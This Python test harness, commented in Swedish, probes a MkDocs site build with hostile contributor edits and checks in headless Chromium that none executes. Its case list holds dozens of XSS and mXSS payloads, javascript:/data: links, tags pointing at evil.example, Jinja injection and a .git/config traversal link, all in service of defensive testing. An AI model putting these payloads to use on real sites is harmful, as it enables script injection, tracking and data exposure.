"""A probe as a hostile contributor: content-only pull requests, each tried on a small repository.

    .venv/bin/python -m macros.tools.bench.content_probe [--bara NAMN]

For each case a change to ``program/`` or ``docs/`` is written into a fresh small repository
(``tests.factory.buildable_repo``), then ``trygghet check`` and the strict build run. A case
*holds* when the check or the build refuses it with a Swedish message and no traceback, or
when the site builds and Chromium, opening the page, sees no script run (no dialog), no request
to another site, no navigation, and the theme's configuration where the theme put it. Needs
Debian's Chromium (``chromium``, which ``make pdf`` installs) and the dev dependencies.
"""

from __future__ import annotations

import argparse
import os
import subprocess
import sys
import tempfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[3]
SECTION = "program/2024-2027/stadsutveckling.md"
SECTION_URL = "program/2024-2027/stadsutveckling/"
SITE = "http://probe.invalid"


@dataclass(frozen=True)
class Case:
    name: str
    change: Callable[[Path], None]
    page: str = SECTION_URL


def body(text: str) -> Callable[[Path], None]:
    def change(root: Path) -> None:
        path = root / SECTION
        path.write_text(path.read_text(encoding="utf-8").rstrip("\n") + "\n\n" + text + "\n", encoding="utf-8")
    return change


def front(key: str, value: str) -> Callable[[Path], None]:
    def change(root: Path) -> None:
        path = root / SECTION
        lines = path.read_text(encoding="utf-8").split("\n")
        lines = [f"{key}: {value}" if line.startswith(f"{key}:") else line for line in lines]
        path.write_text("\n".join(lines), encoding="utf-8")
    return change


def docs(name: str, text: str | bytes) -> Callable[[Path], None]:
    def change(root: Path) -> None:
        path = root / "docs" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))
    return change


def sources(extra: str) -> Callable[[Path], None]:
    def change(root: Path) -> None:
        path = root / "program/kallor.yml"
        path.write_text(path.read_text(encoding="utf-8") + extra, encoding="utf-8")
    return change


X = "alert(1)"
CASES = [
    Case("inbäddad script-tagg", body(f"<scr<script>ipt>{X}</script>")),
    Case("radbrytning i javascript:", body(f'<a href="java&#x0A;script:{X}">x</a>')),
    Case("mellanslag före javascript:", body(f"[x]( javascript:{X})")),
    Case("referenslänk med titel som bryter ut", body('[x][r]\n\n[r]: https://a.se "t\\" onmouseover=\\"alert(1)"')),
    Case("bildtitel som bryter ut", body('![a](b.png "x\\" onerror=\\"alert(1)")')),
    Case("attr_list onclick på rubrik", body(f"## Rubrik {{: onclick={X} }}")),
    Case("attr_list id __config", body("## Rubrik {: #__config }")),
    Case("attr_list id som sidans egna", body("Text\n{: #tp-giltighet }")),
    Case("details ontoggle", body(f"<details ontoggle={X} open><summary>x</summary></details>")),
    Case("div markdown med onclick", body(f'<div markdown="1" onclick="{X}">\n\nText\n\n</div>')),
    Case("form med markdown-attribut", body('<form markdown="1" action="https://evil.example/">\n\n<input name=q>\n\n</form>')),
    Case("title med citattecken", body('<span class="x" title="a&quot; onmouseover=alert(1)">x</span>')),
    Case("fotnot med skript", body(f"Text[^1]\n\n[^1]: <script>{X}</script>")),
    Case("förkortning med skript", body(f"HTML här.\n\n*[HTML]: <script>{X}</script>")),
    Case("tabellcell med onerror", body(f"| a |\n|---|\n| <img src=x onerror={X}> |")),
    Case("admonition-titel med onerror", body(f'!!! note "<img src=x onerror={X}>"\n    Text')),
    Case("details-titel med skript", body(f'??? note "<script>{X}</script>"\n    Text')),
    Case("kodstaket med hostilt språk", body('```html" onload="alert(1)\nx\n```')),
    Case("kodspann som stänger code", body(f"`</code><script>{X}</script>`")),
    Case("jinja-kommentar delar script", body(f"<scr{{# #}}ipt>{X}</scr{{# #}}ipt>")),
    Case("svg style mxss", body(f"<svg><style><img src=x onerror={X}></style></svg>")),
    Case("math mglyph mxss", body(f"<math><mtext><table><mglyph><style><img src=x onerror={X}>")),
    Case("noscript mxss", body(f'<noscript><p title="</noscript><img src=x onerror={X}>"></noscript>')),
    Case("template med skript", body(f"<template><script>{X}</script></template>")),
    Case("textarea följt av skript", body(f"<textarea></textarea><script>{X}</script>")),
    Case("xmp", body(f"<xmp><script>{X}</script></xmp>")),
    Case("iframe srcdoc", body(f'<iframe srcdoc="<script>parent.{X}</script>"></iframe>')),
    Case("base protokollrelativ", body("<base href=//evil.example/>")),
    Case("meta refresh data:", body('<meta http-equiv="refresh" content="0;url=data:text/html,x">')),
    Case("link import", body('<link rel="import" href="https://evil.example/x">')),
    Case("object", body('<object data="https://evil.example/x"></object>')),
    Case("embed", body('<embed src="https://evil.example/x">')),
    Case("span med id __config", body('<span id="__config">{}</span>')),
    Case("abbr med onmouseover", body(f'<abbr title="x" onmouseover={X}>X</abbr>')),
    Case("autolänk javascript", body(f"<javascript:{X}>")),
    Case("länk data:", body("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)")),
    Case("länk vbscript:", body("[x](vbscript:msgbox(1))")),
    Case("extern bild (spårning)", body("![spår](https://evil.example/spar.png)")),
    Case("protokollrelativ bild", body("![spår](//evil.example/spar.png)")),
    Case("kommentar med personuppgifter", body("<!-- Anna Andersson, 070-123 45 67 -->")),
    Case("cdata med skript", body(f"<![CDATA[<script>{X}</script>]]>")),
    Case("processinstruktion", body(f"<?xml-stylesheet href='https://evil.example/x.xsl'?><?x {X} ?>")),
    Case("slutagg med attribut i block", body(f"<div>\n</div x><script>{X}</script>\n</div>")),
    Case("titel med skript", front("titel", '"</title><script>alert(1)</script>"')),
    Case("titel med jinja", front("titel", '"{{ 7*7 }} {% include x %}"')),
    Case("titel med markdownlänk javascript", front("titel", '"[x](javascript:alert(1))"')),
    Case("titel med styrtecken via escape", front("titel", '"Röd \\e[31mtext"')),
    Case("titel med omvänd text", front("titel", '"Vänd \u202etext"')),
    Case("källa med javascript-url", sources("- id: ond\n  fil: 000_f0938a9437317593.txt\n  titel: Ond\n  url: javascript:alert(1)\n")),
    Case("källa med javascript-adress", sources("- id: ond\n  fil: 000_f0938a9437317593.txt\n  titel: Ond\n  adress: javascript:alert(1)\n")),
    Case("attr_list id som temats", body("Text\n{: #md-container }")),
    Case("länk ut ur förrådet", body("[konfig](../../../.git/config)")),
    Case("entitetskodad javascript i referens", body("[x][r]\n\n[r]: &#x6A;avascript:alert(1)")),
    Case("docs-sida med skript", docs("ond.md", f"# Ond\n\n<script>{X}</script>\n"), "ond/"),
    Case("docs-sida med template", docs("ond.md", "---\ntemplate: main.html\n---\n# Ond\n"), "ond/"),
    Case("docs-sida med render_macros false", docs("ond.md", "---\nrender_macros: false\n---\n# Ond\n\n{{ 7*7 }} <!-- x -->\n"), "ond/"),
    Case("docs robots.txt", docs("robots.txt", "User-agent: *\nDisallow: /\n")),
    Case("docs png som är html", docs("assets/bild.png", f"<html><script>{X}</script></html>")),
    Case("docs sida som krockar med genererad", docs("program/2024-2027/index.md", "# Krock\n")),
    Case("docs 404.md", docs("404.md", f"# Inte\n\n<script>{X}</script>\n"), "404/"),
    Case("docs search_index.json", docs("search/search_index.json", '{"docs": []}')),
    Case("docs feed.xml", docs("feed.xml", "<feed/>")),
    Case("docs sida med meta refresh i front matter", docs("ond.md", "---\ntitle: x\ndescription: '\"><meta http-equiv=refresh content=0;url=//evil.example>'\n---\n# Ond\n"), "ond/"),
    Case("docs sida med CR-radslut och alias", docs("ond.md", b"---\rtitle: &a x\rdescription: *a\r---\r# Ond\r"), "ond/"),
]


def _run(command: list[str], cwd: Path) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1", "SOURCE_DATE_EPOCH": "1700000000", "SITE_URL": SITE + "/"}
    return subprocess.run(command, cwd=cwd, env=env, capture_output=True, text=True, check=False, timeout=120)


def _browse(site: Path, page: str) -> list[str]:
    """What Chromium saw on ``page`` that it should not have: dialogs, foreign requests, navigations."""
    from playwright.sync_api import sync_playwright

    seen: list[str] = []
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path="/usr/bin/chromium", args=["--headless=new", "--no-sandbox"])
        try:
            tab = browser.new_page()
            def dialog(d: Any) -> None:
                seen.append(f"dialog {d.message}")
                d.dismiss()

            tab.on("dialog", dialog)

            def serve(route: object) -> None:
                url = route.request.url  # type: ignore[attr-defined]
                if not url.startswith(SITE + "/"):
                    seen.append(f"begäran {url}")
                    route.abort()  # type: ignore[attr-defined]
                    return
                rel = url[len(SITE) + 1:].split("?")[0].split("#")[0]
                target = site / rel
                if target.is_dir():
                    target = target / "index.html"
                if target.is_file():
                    route.fulfill(path=str(target))  # type: ignore[attr-defined]
                else:
                    route.fulfill(status=404, body="")  # type: ignore[attr-defined]

            tab.route("**/*", serve)
            tab.goto(f"{SITE}/{page}", wait_until="networkidle")
            tab.wait_for_timeout(300)
            for element in tab.locator("main [onclick], main [onmouseover], main details").all():
                element.hover()
            if tab.url.split("#")[0] != f"{SITE}/{page}":
                seen.append(f"navigering till {tab.url}")
            config = tab.evaluate("(() => { const c = document.querySelector('#__config'); return c && c.tagName; })()")
            if config not in ("SCRIPT", None):
                seen.append(f"#__config är ett {config}")
        finally:
            browser.close()
    return seen


def probe(case: Case) -> tuple[str, str]:
    sys.path.insert(0, str(ROOT))
    from tests.factory import buildable_repo

    with tempfile.TemporaryDirectory() as tmp:
        root = buildable_repo(Path(tmp) / "repo", ROOT)
        case.change(root)
        check = _run([str(Path(sys.executable).parent / "trygghet"), "check", "--rot", str(root)], root)
        if "Traceback" in check.stdout + check.stderr:
            return "SVIKTADE", "traceback i trygghet check"
        build = _run([sys.executable, "-m", "mkdocs", "build", "--strict", "-f", str(root / "mkdocs.yml"),
                      "-d", str(root / "site")], root)
        if "Traceback" in build.stdout + build.stderr:
            return "SVIKTADE", "traceback i bygget"
        if check.returncode and build.returncode:
            first = next((line for line in (check.stderr + check.stdout).splitlines() if ": fel" in line), "")
            return "höll", "vägrad av check och bygget: " + first[:140]
        if build.returncode:
            last = [line for line in (build.stdout + build.stderr).splitlines() if line.strip()][-3:]
            return "höll", "vägrad av bygget: " + " / ".join(last)[:160]
        if check.returncode:
            return "SVIKTADE", "check vägrade men bygget gick igenom"
        seen = _browse(root / "site", case.page)
        return ("SVIKTADE", "; ".join(seen)) if seen else ("höll", "byggdes; inget skript, ingen begäran utåt, ingen navigering")


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description="Fientliga innehållsändringar, prövade en i taget.")
    parser.add_argument("--bara", help="bara fall vars namn innehåller den här texten")
    args = parser.parse_args(argv)
    cases = [c for c in CASES if not args.bara or args.bara in c.name]
    failed = 0
    print("| # | Fall | Utfall | Hur |\n|---|---|---|---|")
    for i, case in enumerate(cases, 1):
        verdict, how = probe(case)
        failed += verdict != "höll"
        print(f"| {i} | {case.name} | {verdict} | {how.replace('|', '/')} |", flush=True)
    print(f"\n{len(cases) - failed} av {len(cases)} höll.")
    return 1 if failed else 0


if __name__ == "__main__":
    raise SystemExit(main())
